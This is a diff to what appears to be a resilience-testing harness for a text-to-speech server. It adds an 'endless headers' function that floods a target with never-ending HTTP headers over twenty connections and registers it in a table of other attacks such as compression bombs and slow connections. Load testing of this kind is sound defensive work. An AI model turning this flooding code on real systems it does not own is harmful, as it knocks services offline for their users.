@@ -274,6 +274,20 @@ async def long_headers(url: str, key: str) -> None:
             writer.close()
 
 
+async def endless_headers(url: str, key: str) -> None:
+    """Send headers that do not end, on twenty connections at once; no key is needed."""
+
+    async def send() -> None:
+        while True:
+            with contextlib.suppress(OSError):
+                _, writer = await _raw(url, b"GET / HTTP/1.1\r\nHost: a\r\n")
+                while not writer.is_closing():
+                    writer.write(b"X-a: b\r\n" * 1_000)
+                    await writer.drain()
+
+    await asyncio.gather(*(send() for _ in range(20)))
+
+
 async def silent_connections(url: str, key: str) -> None:
     """Open connections, and send nothing, or half of a request."""
     halves = (b"", b"GET /v1/tts/ws HTTP/1.1\r\n", b"POST /v1/audio/speech HTTP/1.1\r\nHost: ")
@@ -376,6 +390,7 @@ ATTACKS: dict[str, Attack] = {
     "pings": pings,
     "nested JSON": nested,
     "long headers": long_headers,
+    "endless headers": endless_headers,
     "silent connections": silent_connections,
     "dripping uploads": dripping_uploads,
     "compression bombs": bombs,
